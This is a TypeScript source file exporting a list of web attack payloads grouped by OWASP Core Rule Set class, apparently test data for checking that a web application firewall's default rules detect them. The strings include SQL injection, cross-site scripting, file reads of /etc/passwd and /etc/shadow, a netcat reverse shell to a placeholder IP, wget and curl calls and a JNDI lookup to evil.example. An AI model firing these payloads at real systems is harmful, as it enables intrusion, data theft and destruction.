/**
 * One attack for each line, by the class that the OWASP Core Rule Set files it under; each a text that a rule of its
 * default level knows.
 */
export const PAYLOADS: Readonly<Record<string, readonly string[]>> = {
  'SQL injection': [
    '1\' OR \'1\'=\'1\' -- ', '1 UNION SELECT username,password FROM users', '1;DROP TABLE users--', 'admin\'/*', '1 AND SLEEP(5)',
    '\' OR 1=1 LIMIT 1 -- -+', '1\' AND extractvalue(1,concat(0x7e,version()))--', '1; EXEC xp_cmdshell(\'dir\')', 'x\' HAVING 1=1--',
    '{"$where": "sleep(100)"}', '1 or benchmark(10000000,MD5(1))#', '\'; WAITFOR DELAY \'0:0:5\'--',
  ],
  'cross-site scripting': [
    '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><svg/onload=alert(1)>', 'javascript:alert(document.cookie)',
    '<iframe src="javascript:alert(1)">', '<body onload=alert(1)>', '<a href="jav&#x09;ascript:alert(1)">x</a>', '\';alert(String.fromCharCode(88,83,83))//',
  ],
  'local file inclusion': [
    '../../../../etc/passwd', '..%2f..%2f..%2fetc%2fpasswd', '/etc/shadow', '....//....//etc/passwd', '..\\..\\..\\windows\\win.ini', '/proc/self/environ',
  ],
  'remote file inclusion': ['http://192.0.2.7/shell.txt?', 'php://input', 'https://evil.example/r57.php?'],
  'remote command execution': [
    ';cat /etc/passwd', '|id', '`whoami`', '$(nc -e /bin/sh 192.0.2.7 4444)', '& ping -n 10 127.0.0.1', '() { :;}; /bin/bash -c "id"',
    ';wget http://evil.example/x.sh', 'powershell.exe -enc AAAA', '|| curl evil.example',
  ],
  'PHP injection': ['<?php system("id"); ?>', 'phpinfo()', '${@print(md5(1))}', 'php://filter/convert.base64-encode/resource=x', 'O:8:"stdClass":0:{}'],
  'Node.js injection': ['require("child_process").exec("id")', 'process.mainModule.require("fs")', '__proto__[x]=y', 'this.constructor.constructor("return process")()'],
  'Java attack': ['${jndi:ldap://evil.example/a}', 'java.lang.Runtime.getRuntime().exec("id")', '%{(#_memberAccess["allowStaticMethodAccess"]=true)}', 'rO0ABXNyABdqYXZhLnV0aWwu'],
  'session fixation': ['<script>document.cookie="PHPSESSID=1"</script>', 'document.cookie=\'jsessionid=1\''],
  'XML': ['<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', '<!ENTITY % x SYSTEM "http://evil.example/x.dtd">'],
  'LDAP and template injection': ['*)(uid=*))(|(uid=*', '{{7*7}}', '<%= system("id") %>', '#{7*7}'],
};
